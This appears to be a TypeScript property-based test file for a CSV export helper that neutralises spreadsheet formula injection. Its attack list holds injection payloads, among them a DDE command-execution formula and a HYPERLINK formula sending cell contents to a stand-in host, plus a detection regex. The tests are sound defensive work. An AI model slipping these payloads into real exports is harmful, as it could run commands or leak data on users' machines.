import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_MARK, csvCell, csvLine, inertText } from '../../../src/shared/csv-text.ts';
import { readStrictCsv } from '../../support/strict-csv.ts';

/** What a spreadsheet would run: a beginning of a cell, a line or what follows another separator. */
const RUNS = /(^|[\r\n;\t])[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u;

/** Attacks as they are told of: formulas, remote calls, full width, hidden beginnings, other separators. */
const ATTACKS = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://x.invalid?"&A1,"more")',
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u3000＝1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  'Ada\n=1+1',
  'Ada\r\n  @x',
  'Ada;=1+1',
  'Ada\t=1+1',
  'Ada\u2028=1+1',
  '\u200B=1+1',
  '\u202E=1+1',
  '\uFEFF=1+1',
  '\u0000=1+1',
];

const nasty = fc.string({
  unit: fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '＝',
    '"',
    ',',
    ';',
    '\t',
    '\r',
    '\n',
    ' ',
    '\u00A0',
    '\u202E',
    'x',
    '1',
    '张',
    '😀',
  ),
  maxLength: 20,
});
const cell = fc.oneof(fc.string(), fc.string({ unit: 'binary' }), nasty);

describe('CSV lines', () => {
  it('gives back every cell to a strict reader, made inert', () => {
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const text = CSV_MARK + rows.map((row) => csvLine(row)).join('');
        expect(readStrictCsv(text)).toEqual(rows.map((row) => row.map(inertText)));
      }),
    );
  });

  it.each(ATTACKS)('leaves nothing of %j to run', (attack) => {
    const [[read]] = readStrictCsv(csvLine([attack])) as [[string]];
    expect(read.replaceAll(`'`, '')).toBe(attack.replaceAll(`'`, ''));
    expect(read).toContain(`'`);
    expect(RUNS.test(read)).toBe(false);
  });

  it('leaves nothing to run in any text but a number', () => {
    fc.assert(
      fc.property(cell, (text) => {
        fc.pre(!/^[+-]?\d+(\.\d+)?$/.test(text));
        expect(RUNS.test(inertText(text))).toBe(false);
      }),
      { numRuns: 500 },
    );
  });

  it('changes nothing twice, and no ordinary text', () => {
    fc.assert(
      fc.property(cell, (text) => {
        expect(inertText(inertText(text))).toBe(inertText(text));
      }),
    );
    const ordinary = [
      '',
      '张**',
      '110***********1234',
      'a, b - c',
      'x=1',
      '2026-11-22T10:00:00.000Z',
      'face.unsure',
      '😀',
    ];
    expect(ordinary.map(inertText)).toEqual(ordinary);
  });

  it('keeps numbers numbers, and says nothing for null', () => {
    expect(csvLine([-1, 2.5, 0, '-3.5', true, false, null, ''])).toBe('-1,2.5,0,-3.5,true,false,,\r\n');
    expect(() => csvCell(Number.NaN)).toThrow(RangeError);
  });

  it('quotes what a program of another region would cut in two', () => {
    expect(csvLine(['a;b', 'a,b', 'say "no"', ' x '])).toBe('"a;b","a,b","say ""no"""," x "\r\n');
  });
});
